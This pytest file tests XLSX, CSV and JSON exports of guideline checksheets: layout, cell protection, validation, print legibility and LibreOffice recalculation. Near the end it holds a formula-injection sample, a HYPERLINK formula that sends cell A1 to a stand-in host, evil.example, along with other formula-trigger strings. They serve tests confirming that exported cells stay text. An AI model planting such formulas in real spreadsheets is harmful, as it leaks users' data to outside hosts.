"""Downloads: the XLSX and CSV checksheets per role and language, and guideline.json.

The LibreOffice tests (recalculation, printed type size, formula neutralization) need
scripts/install-office.sh; they are skipped, saying so, where soffice is missing.
"""
import collections
import copy
import csv
import io
import json
import shutil
import subprocess
from datetime import date
from pathlib import Path

import jsonschema
import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter
from pypdf import PdfReader

from guideline import exports
from guideline.model import Text
from tests.conftest import UPSTREAM

G = UPSTREAM
STAMP = exports.Stamp(version=G.meta.version, generated=date(2026, 11, 22), commit="abc123")
CASES = [(r.id, lang) for r in G.roles for lang in ("ja", "en")]
IDS = [f"{role}-{lang}" for role, lang in CASES]


def role_ids(role_id):
    return [c.id for c in G.countermeasures(role_id)]


@pytest.fixture(scope="module", params=CASES, ids=IDS)
def workbook(request):
    role_id, lang = request.param
    return role_id, lang, load_workbook(io.BytesIO(exports.checksheet_xlsx(G, role_id, lang, STAMP)))


def header_row_of(ws, lang):
    for i, row in enumerate(ws.iter_rows(values_only=True), 1):
        if row[0] == G.text("column.id", lang):
            return i
    raise AssertionError("no header row")


def col(name):
    return exports.XLSX_COLUMNS.index(name) + 1


def test_xlsx_holds_exactly_the_roles_countermeasures_then_room_for_own_rows(workbook):
    role_id, lang, wb = workbook
    ws = wb.worksheets[0]
    header = header_row_of(ws, lang)
    n = len(role_ids(role_id))
    assert [ws.cell(r, 1).value for r in range(header + 1, header + 1 + n)] == role_ids(role_id)
    texts = [ws.cell(r, col("countermeasure")).value.split("\n")[0] for r in range(header + 1, header + 1 + n)]
    assert texts == [c.text[lang] for c in G.countermeasures(role_id)]
    first = G.countermeasures(role_id)[0]  # the sub-item's risks for the role are on each row
    assert all(r.text[lang] in ws.cell(header + 1, col("risk")).value
               for r in G.sheet(first.sub_item_id, role_id).risks)
    assert [ws.cell(header, c).value for c in range(1, len(exports.XLSX_COLUMNS) + 1)] == \
        exports.headers(G, lang, exports.XLSX_COLUMNS)
    own = range(header + n + 1, header + n + 1 + exports.OWN_ROWS)
    assert all(ws.cell(r, 1).value is None for r in own)
    everything = [c for row in ws.iter_rows(values_only=True) for c in row]
    assert G.text("xlsx.instructions", lang, rows=exports.OWN_ROWS) in everything


def test_xlsx_header_block_has_the_fields_staff_fill_in(workbook):
    role_id, lang, wb = workbook
    ws = wb.worksheets[0]
    layout = exports.xlsx_layout(G, role_id, lang)
    for key, field in exports.HEADER_FIELDS:
        cell = ws[layout["cells"][field]]
        assert ws.cell(cell.row, 1).value == G.text(key, lang)
        assert cell.protection.locked is (field == "version"), field
    assert ws[layout["cells"]["version"]].value == STAMP.version


def validation_for(ws, ref):
    return [v for v in ws.data_validations.dataValidation if ref in str(v.sqref).split()]


def test_xlsx_drop_down_dates_and_own_principles_are_validated_on_every_row(workbook):
    role_id, lang, wb = workbook
    ws = wb.worksheets[0]
    layout = exports.xlsx_layout(G, role_id, lang)
    letters, first, last = layout["columns"], layout["firstRow"], layout["lastRow"]
    (status,) = validation_for(ws, f"{letters['status']}{first}:{letters['status']}{last}")
    assert status.type == "list"
    assert status.formula1 == '"' + ",".join(exports.status_labels(G, lang)) + '"'
    assert status.showInputMessage and status.prompt and status.promptTitle == G.text("column.status", lang)
    for field in ("checked_on", "due_on"):
        (dates,) = validation_for(ws, f"{letters[field]}{first}:{letters[field]}{last}")
        assert dates.type == "date"
    own_first = layout["lastGuidelineRow"] + 1
    (principles,) = validation_for(ws, f"{letters['principle']}{own_first}:{letters['principle']}{last}")
    assert principles.type == "list"
    assert principles.formula1.endswith(f"$A${exports.SUMMARY_HEADER_ROW + len(G.principles)}")
    rules = [rule for cf in ws.conditional_formatting for rule in cf.rules
             if str(cf.sqref) == f"{letters['status']}{first}:{letters['status']}{last}"]
    assert sorted(r.formula[0] for r in rules) == sorted(f'"{x}"' for x in exports.status_labels(G, lang))
    assert all(r.dxf.fill is not None for r in rules)  # status colours


def test_xlsx_text_is_protected_and_answers_are_open(workbook):
    role_id, lang, wb = workbook
    ws, summary = wb.worksheets
    layout = exports.xlsx_layout(G, role_id, lang)
    assert ws.protection.sheet and summary.protection.sheet
    assert not ws.protection.password and not summary.protection.password  # no password: see exports._protect
    for r in range(layout["firstRow"], layout["lastRow"] + 1):
        own = r > layout["lastGuidelineRow"]
        for name in exports.XLSX_COLUMNS:
            locked = ws.cell(r, col(name)).protection.locked
            assert locked is (not own and name not in exports.ANSWER_COLUMNS), (r, name)
    formulas = [cell for row in summary.iter_rows() for cell in row
                if isinstance(cell.value, str) and cell.value.startswith("=")]
    assert formulas and all(cell.protection.locked for cell in formulas)


def test_xlsx_uses_a_japanese_font_and_rows_tall_enough_for_their_text(workbook):
    role_id, lang, wb = workbook
    ws = wb.worksheets[0]
    layout = exports.xlsx_layout(G, role_id, lang)
    for r in range(layout["headerRow"], layout["lastGuidelineRow"] + 1):
        height = ws.row_dimensions[r].height
        assert height, f"row {r} has no height"
        for name in exports.XLSX_COLUMNS:
            cell = ws.cell(r, col(name))
            assert cell.font.name == exports.FONT_NAME and cell.font.sz >= 11
            if cell.value:
                usable = ws.column_dimensions[get_column_letter(col(name))].width - 1.5
                # Full-width characters count double; every paragraph starts a new line.
                lines = sum(max(1, -(-sum(2 if ord(ch) > 0x2E7F else 1 for ch in par) // usable))
                            for par in str(cell.value).split("\n"))
                assert height >= lines * exports.LINE_HEIGHT * 0.95, (r, name, height, lines)


def test_xlsx_prints_on_a4_landscape_fitted_to_the_width_only(workbook):
    role_id, lang, wb = workbook
    ws = wb.worksheets[0]
    header = header_row_of(ws, lang)
    assert ws.freeze_panes == f"B{header + 1}"
    assert str(ws.page_setup.paperSize) == ws.PAPERSIZE_A4  # "9" is A4 in the OOXML paper codes
    assert ws.page_setup.orientation == "landscape"
    assert ws.print_title_rows == f"${header}:${header}"
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 0)  # never shrunk onto one page
    stamp = G.text("stamp", lang).replace("{version}", STAMP.version).replace("{date}", "2026-11-22")
    assert ws.cell(2, 1).value == stamp and ws.oddFooter.left.text == stamp
    assert "&P" in ws.oddFooter.right.text
    assert wb.worksheets[1].cell(2, 1).value == stamp
    assert wb.properties.subject == stamp


def test_xlsx_summary_has_an_approval_block(workbook):
    role_id, lang, wb = workbook
    summary = wb.worksheets[1]
    labels = [c for row in summary.iter_rows(values_only=True) for c in row]
    for key in ("approval.reviewer", "approval.approver", "approval.date", "xlsx.rate"):
        assert G.text(key, lang) in labels


def expected_counts(role_id, statuses):
    """Per principle: total and per status label, from a label (or None) per countermeasure."""
    labels = exports.status_labels(G, "ja")
    counts = {p.id: {"total": 0, **{label: 0 for label in labels}} for p in G.principles}
    for cm, label in zip(G.countermeasures(role_id), statuses, strict=True):
        pid = G.sub_item(cm.sub_item_id).principle_id
        counts[pid]["total"] += 1
        if label:
            counts[pid][label] += 1
    return counts


@pytest.mark.parametrize("role_id", [r.id for r in G.roles])
def test_xlsx_summary_caches_the_values_of_its_formulas(role_id):
    raw = exports.checksheet_xlsx(G, role_id, "ja", STAMP)
    formulas = load_workbook(io.BytesIO(raw)).worksheets[1]
    values = load_workbook(io.BytesIO(raw), data_only=True).worksheets[1]
    counts = expected_counts(role_id, [None] * len(role_ids(role_id)))
    for r, p in enumerate(G.principles, start=exports.SUMMARY_HEADER_ROW + 1):
        assert formulas.cell(r, 2).value.startswith("=COUNTIF(")
        assert values.cell(r, 2).value == counts[p.id]["total"]
        assert values.cell(r, 3).value == 0
        assert values.cell(r, 7).value == counts[p.id]["total"]  # all blank
        assert values.cell(r, 8).value == 0
    total_row = exports.SUMMARY_HEADER_ROW + 1 + len(G.principles)
    assert values.cell(total_row, 2).value == len(role_ids(role_id))


SOFFICE = shutil.which("soffice")


def needs_office(test):
    """Opened in LibreOffice (seconds each): in `make test`, out of `make test-fast`."""
    return pytest.mark.office(pytest.mark.skipif(
        SOFFICE is None, reason="LibreOffice (soffice) is missing: run scripts/install-office.sh")(test))


def soffice_convert(path: Path, to: str) -> Path:
    out = path.parent / "out"
    subprocess.run([SOFFICE, f"-env:UserInstallation=file://{path.parent}/profile", "--headless",
                    "--convert-to", to, "--outdir", str(out), str(path)], check=True, capture_output=True,
                   timeout=300)
    return out / (path.stem + "." + to.split(":")[0])


@needs_office
@pytest.mark.parametrize("role_id", [r.id for r in G.roles])
def test_libreoffice_recalculates_the_summary_as_expected(role_id, tmp_path):
    """Fill statuses (and an own row) with openpyxl, which drops cached values: LibreOffice computes."""
    wb = load_workbook(io.BytesIO(exports.checksheet_xlsx(G, role_id, "ja", STAMP)))
    ws = wb.worksheets[0]
    layout = exports.xlsx_layout(G, role_id, "ja")
    labels = exports.status_labels(G, "ja")
    statuses = [None if k % 5 == 4 else labels[k % 4] for k in range(len(role_ids(role_id)))]
    for k, label in enumerate(statuses):
        ws.cell(layout["firstRow"] + k, col("status")).value = label
    own = layout["lastGuidelineRow"] + 1  # one of the municipality's own rows, under the first principle
    ws.cell(own, 1).value = "独自-01"
    ws.cell(own, col("principle")).value = wb.worksheets[1].cell(exports.SUMMARY_HEADER_ROW + 1, 1).value
    ws.cell(own, col("status")).value = labels[0]
    wb.save(tmp_path / "filled.xlsx")
    recalculated = load_workbook(soffice_convert(tmp_path / "filled.xlsx", "xlsx:Calc MS Excel 2007 XML"),
                                 data_only=True).worksheets[1]
    counts = expected_counts(role_id, statuses)
    counts[G.principles[0].id]["total"] += 1
    counts[G.principles[0].id][labels[0]] += 1
    for r, p in enumerate(G.principles, start=exports.SUMMARY_HEADER_ROW + 1):
        c = counts[p.id]
        row = [recalculated.cell(r, k).value for k in range(2, 9)]
        expected = [c["total"], *(c[label] for label in labels), c["total"] - sum(c[label] for label in labels)]
        assert row[:6] == expected, p.id
        denominator = c["total"] - c[labels[3]]
        assert row[6] == (pytest.approx(c[labels[0]] / denominator) if denominator else row[6]), p.id
    total_row = exports.SUMMARY_HEADER_ROW + 1 + len(G.principles)
    assert recalculated.cell(total_row, 2).value == len(role_ids(role_id)) + 1


def printed_sizes(pdf: Path) -> collections.Counter:
    """Characters per printed type size (points), from the text and transformation matrices."""
    sizes: collections.Counter = collections.Counter()
    for page in PdfReader(str(pdf)).pages:
        def visit(text, cm, tm, font, size):
            if text.strip():
                scale = (tm[2] ** 2 + tm[3] ** 2) ** 0.5 * (cm[2] ** 2 + cm[3] ** 2) ** 0.5
                sizes[round(size * scale, 2)] += len(text.strip())
        page.extract_text(visitor_text=visit)
    return sizes


@needs_office
@pytest.mark.parametrize("role_id,lang", CASES, ids=IDS)
def test_libreoffice_prints_the_checksheet_legibly_on_a4_landscape(role_id, lang, tmp_path):
    path = tmp_path / "sheet.xlsx"
    path.write_bytes(exports.checksheet_xlsx(G, role_id, lang, STAMP))
    pdf = soffice_convert(path, "pdf")
    reader = PdfReader(str(pdf))
    width, height = float(reader.pages[0].mediabox.width), float(reader.pages[0].mediabox.height)
    assert abs(width - 841.9) < 2 and abs(height - 595.3) < 2  # A4 landscape
    sizes = printed_sizes(pdf)
    assert min(sizes) >= 9.0, sorted(sizes.items())  # every character, footer included
    assert len(reader.pages) > 3  # not shrunk onto one page
    text = "".join(p.extract_text() for p in reader.pages).replace("\n", "")
    missing = [cm_id for cm_id in role_ids(role_id) if cm_id not in text]
    assert not missing


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"クリック")'


def hostile_guideline():
    g = copy.deepcopy(G)
    cm = g.countermeasures("provider")[0]
    cm.text = Text(ja=HOSTILE, en="+1+1")
    cm.sub_points = [Text(ja="@SUM(1)", en="-2+3")]
    return g


def test_csv_cells_never_start_a_formula():
    g = hostile_guideline()
    for lang, expected in (("ja", "'" + HOSTILE), ("en", "'+1+1")):
        raw = exports.checksheet_csv(g, "provider", lang, STAMP).decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(raw)))
        assert rows[1][exports.CSV_COLUMNS.index("countermeasure")] == expected
        assert not [v for row in rows[1:] for v in row if v.startswith(exports.FORMULA_TRIGGERS)]


@needs_office
def test_xlsx_cells_never_become_formulas(tmp_path):
    raw = exports.checksheet_xlsx(hostile_guideline(), "provider", "ja", STAMP)
    cell = load_workbook(io.BytesIO(raw)).worksheets[0].cell(exports.HEADER_ROW + 1, col("countermeasure"))
    assert cell.data_type == "s" and cell.value.startswith(HOSTILE)
    # LibreOffice keeps it as text: saved as CSV, the cell holds the text, not a formula's result.
    path = tmp_path / "hostile.xlsx"
    path.write_bytes(raw)
    out = soffice_convert(path, "csv:Text - txt - csv (StarCalc):44,34,76")
    assert HOSTILE.replace('"', '""') in out.read_text(encoding="utf-8")


@pytest.mark.parametrize("role_id,lang", CASES, ids=IDS)
def test_csv_has_a_bom_and_exactly_the_roles_countermeasures(role_id, lang):
    raw = exports.checksheet_csv(G, role_id, lang, STAMP)
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][:len(exports.CSV_COLUMNS)] == exports.headers(G, lang)
    assert [r[0] for r in rows[1:]] == role_ids(role_id)
    assert {(r[-2], r[-1]) for r in rows[1:]} == {(STAMP.version, "2026-11-22")}
    if lang == "ja":
        assert any("ハルシネーション" in r[4] + r[5] for r in rows[1:])


def test_guideline_json_is_complete_and_valid_against_its_schema():
    document = json.loads(exports.guideline_json(G, STAMP))
    jsonschema.validate(document, exports.guideline_json_schema())
    assert (document["guideline_version"], document["commit"], document["generated"]) == \
        (STAMP.version, "abc123", "2026-11-22")
    ids = [c["id"] for p in document["principles"] for s in p["sub_items"] for role in s["roles"].values()
           for c in role["countermeasures"]]
    assert sorted(ids) == sorted(c.id for c in G.countermeasures())
    assert {"provider", "user"} == set(document["principles"][0]["sub_items"][0]["roles"])


def test_guideline_json_schema_rejects_a_broken_export():
    document = json.loads(exports.guideline_json(G, STAMP))
    document["principles"][0]["sub_items"][0]["roles"]["provider"]["countermeasures"][0]["id"] = "bad id"
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(document, exports.guideline_json_schema())


@pytest.mark.parametrize("empty", ["<v />", "<v></v>", ""], ids=["et_xmlfile", "lxml", "absent"])
def test_cached_values_are_written_whatever_openpyxl_serializer_wrote(empty):
    """openpyxl writes an empty value as <v /> without lxml and <v></v> with it."""
    import zipfile
    sheet = f'<worksheet><sheetData><row r="5"><c r="B5" s="3"><f>SUM(A1:A2)</f>{empty}</c>' \
            f'<c r="C5"><f>IF(A1=0,"",1)</f>{empty}</c></row></sheetData></worksheet>'
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w") as z:
        z.writestr("xl/worksheets/sheet2.xml", sheet)
        z.writestr("xl/workbook.xml", '<workbook><calcPr calcId="1"/></workbook>')
    out = zipfile.ZipFile(io.BytesIO(exports.with_cached_values(raw.getvalue(), 2, {"B5": 7, "C5": ""})))
    written = out.read("xl/worksheets/sheet2.xml").decode()
    assert '<c r="B5" s="3"><f>SUM(A1:A2)</f><v>7</v></c>' in written
    assert '<c r="C5" t="str"><f>IF(A1=0,"",1)</f><v></v></c>' in written
    assert 'fullCalcOnLoad="1"' in out.read("xl/workbook.xml").decode()
